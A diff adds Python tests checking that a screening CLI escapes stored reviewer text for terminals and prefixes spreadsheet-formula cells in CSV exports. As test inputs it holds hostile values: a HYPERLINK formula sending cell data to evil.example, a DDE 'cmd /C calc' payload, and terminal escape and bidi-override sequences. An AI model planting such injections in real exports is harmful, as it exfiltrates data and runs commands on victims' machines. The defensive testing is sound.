@@ -254,3 +254,47 @@ def test_the_core_never_imports_the_store_and_a_missing_extra_says_what_to_insta
     )
     result = subprocess.run([sys.executable, "-c", blocked], capture_output=True, text=True, cwd=tmp_path, timeout=120)
     assert result.returncode == 2 and "pip install 'screening[store]'" in result.stderr and "Traceback" not in result.stderr
+
+
+HOSTILE_REVIEWER = "@SUM(1+1)\x1b[2J\x1b]0;owned\x07\rDr Evil\u202e"
+
+
+def test_stored_text_is_escaped_for_the_terminal_and_for_a_spreadsheet(capsys, reports, store_url):
+    """Issue 27, 3 and 4: a reviewer's name and reason text reach neither a terminal raw nor a
+    spreadsheet as a formula (OWASP: a cell starting with = + - @ TAB or CR gets an apostrophe)."""
+    old_file, new_file, _ = reports
+    argv = ["decide", old_file, "--flag", "setting.one-facilitator-for-duo", "--participant", "A"]
+    code, _, err = run(
+        capsys,
+        *argv,
+        "--outcome",
+        "overridden",
+        "--reason",
+        "other",
+        "--reason-text",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "--note",
+        "+cmd|' /C calc'!A0",
+        "--reviewer",
+        HOSTILE_REVIEWER,
+        "--store",
+        store_url,
+    )
+    assert code == 0, err
+    for command in (["audit", "list"], ["diff", old_file, new_file]):
+        code, out, _ = run(capsys, *command, "--store", store_url)
+        assert code == 0 and out
+        assert not any(c in out for c in "\x1b\x07\r\u202e"), command
+        assert "\\x1b[2J" in out and "\\u202e" in out
+    code, out, _ = run(capsys, "audit", "export", "--format", "csv", "--store", store_url)
+    row = next(csv.DictReader(io.StringIO(out, newline="")))
+    assert row["reviewer"].startswith("'@") and row["reason_text"].startswith("'=") and row["note"].startswith("'+")
+    assert row["reason_display"].startswith("'=")
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_prefixed(cell):
+    from screening.cli.audit import csv_cell
+
+    assert csv_cell(cell) == "'" + cell and csv_cell("dr.kim") == "dr.kim" and csv_cell(3) == 3
